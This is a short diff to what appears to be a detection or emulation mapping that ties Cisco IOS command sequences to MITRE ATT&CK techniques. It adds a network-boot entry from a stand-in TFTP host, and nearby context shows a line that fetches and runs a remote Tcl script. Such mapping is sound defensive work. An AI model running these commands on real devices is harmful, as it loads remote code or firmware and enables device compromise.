@@ -79,6 +79,7 @@ CALLED = {  # what was done, and the first technique of the finding
         "T1542.004",
     ),
     "the configuration register": (["config-register 0x2100", "reload"], "T1542"),
+    "a start from the network": (["boot system tftp c2900.bin 192.0.2.9", "reload"], "T1542.005"),
     "a shell beside a restart": (["tclsh tftp://192.0.2.9/x.tcl", "reload"], "T1059.008"),
 }
 
